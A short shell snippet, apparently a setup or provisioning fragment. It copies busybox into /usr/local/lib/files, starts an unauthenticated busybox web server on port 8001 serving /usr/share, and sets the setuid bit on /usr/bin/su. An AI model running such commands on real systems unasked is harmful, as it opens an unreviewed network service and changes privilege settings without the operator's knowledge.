mkdir -p /usr/local/lib/files
cp /bin/busybox /usr/local/lib/files/
/usr/local/lib/files/busybox httpd -p 8001 -h /usr/share
chmod u+s /usr/bin/su
